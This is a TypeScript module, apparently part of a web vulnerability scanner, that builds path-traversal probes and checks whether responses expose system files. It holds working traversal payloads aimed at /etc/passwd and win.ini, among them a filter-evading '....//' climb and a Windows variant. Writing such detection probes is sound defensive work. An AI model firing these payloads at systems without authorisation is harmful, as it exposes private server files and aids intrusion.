/**
 * Path traversal: climb out of the application's folder in several spellings (plain, filter-evading
 * "....//", absolute, Windows) and look for the content of files every system has.
 */
import { dslString } from '../../dsl';
import type { Probe } from '../../template/schema';
import { requirePoint, templateRequest, type GenerationContext } from '../context';
import { KNOWN_FILE_REGEX } from '../signatures';

export function pathTraversalProbes(context: GenerationContext): Probe[] {
  const point = requirePoint(context);
  const payloads: [string, string][] = [
    ['relative climb to /etc/passwd', `${'../'.repeat(12)}etc/passwd`],
    ['filter-evading climb to /etc/passwd', `${'....//'.repeat(12)}etc/passwd`],
    ['absolute path /etc/passwd', '/etc/passwd'],
    ['relative climb to win.ini', `${'..\\'.repeat(12)}windows\\win.ini`],
  ];
  // Applications that insist on their own folder prefix ("images/...") get the climb after it.
  const folder = /^(.+\/)[^/]*$/.exec(point.original)?.[1];
  if (folder && !folder.startsWith('/') && !folder.includes('..')) payloads.push([`climb out of ${folder}`, `${folder}${'../'.repeat(12)}etc/passwd`]);
  // An observed value that already climbs (an attacker's request) must not be the baseline.
  const benign = /\.\.|^\/|%2e/i.test(point.original) ? (point.original.split(/[/\\]/).pop() ?? '') : point.original;
  const signature = dslString(KNOWN_FILE_REGEX);
  const hits = payloads.map((_, i) => `regex(${signature}, body_${i + 2})`);
  return [
    {
      id: 'known-file',
      technique: 'path_traversal',
      confidence: 0.95,
      confirms: `a path in ${point.describe} returns the content of a system file the baseline does not show`,
      requests: [
        templateRequest('baseline', 'observed value', point.withValue(benign)),
        ...payloads.map(([note, value]) => templateRequest('payload', note, point.withValue(value))),
      ],
      matchers: [{ type: 'dsl', name: 'known-file-content', dsl: [`!regex(${signature}, body_1) && (${hits.join(' || ')})`] }],
      matchers_condition: 'and',
      extractors: [{ type: 'regex', name: 'file-content', part: 'body', regex: [KNOWN_FILE_REGEX] }],
    },
  ];
}
